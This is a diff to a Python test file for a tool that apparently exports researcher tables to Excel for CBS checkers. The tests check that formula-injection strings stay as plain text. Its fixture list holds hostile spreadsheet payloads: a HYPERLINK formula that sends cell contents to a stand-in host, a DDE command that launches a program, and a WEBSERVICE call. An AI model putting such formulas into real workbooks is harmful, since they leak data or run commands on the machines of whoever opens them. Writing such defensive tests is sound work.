@@ -1,4 +1,5 @@
 """Text typed by the researcher or found in the data stays text in every workbook a CBS checker opens."""
+
 from __future__ import annotations
 
 import io
@@ -11,8 +12,15 @@ from openpyxl import load_workbook
 import cbs_export_lab as cel
 from cbs_export_lab.exportmap import FORM_NAME
 
-ATTACKS = ["=HYPERLINK(\"http://x.example/?\"&A1,\"klik\")", "+1+1", "-1+2", "@SUM(1,2)", "\t=1+1", "\r=2+2",
-           "=cmd|' /C calc'!A0"]
+ATTACKS = [
+    '=HYPERLINK("http://x.example/?"&A1,"klik")',
+    "+1+1",
+    "-1+2",
+    "@SUM(1,2)",
+    "\t=1+1",
+    "\r=2+2",
+    "=cmd|' /C calc'!A0",
+]
 
 
 def cells(book) -> list:
@@ -45,13 +53,13 @@ def test_table_sheet_keeps_labels_titles_and_descriptions_as_text(basket, hostil
 
 def test_form_and_sheets_in_the_zip_hold_no_formula(basket, exportmap, hostile_table):
     item = basket.add(hostile_table, "=1+2", description="@risk", explanation="-geen risico")
-    basket.set_explanation(item.id, "=WEBSERVICE(\"http://x\")")
+    basket.set_explanation(item.id, '=WEBSERVICE("http://x")')
     result = cel.prepare_export(basket, exportmap, mode="vooraf", project="+31")
     assert result.zips
     with zipfile.ZipFile(result.zips[0]) as zf:
         books = {n: load_workbook(io.BytesIO(zf.read(n))) for n in zf.namelist() if n.endswith(".xlsx")}
     assert FORM_NAME in books
-    assert_all_text(books[FORM_NAME], ["=1+2", "@risk", "=WEBSERVICE(\"http://x\")"])
+    assert_all_text(books[FORM_NAME], ["=1+2", "@risk", '=WEBSERVICE("http://x")'])
     for name, book in books.items():
         assert not [c for c in cells(book) if c.data_type == "f"], name
 
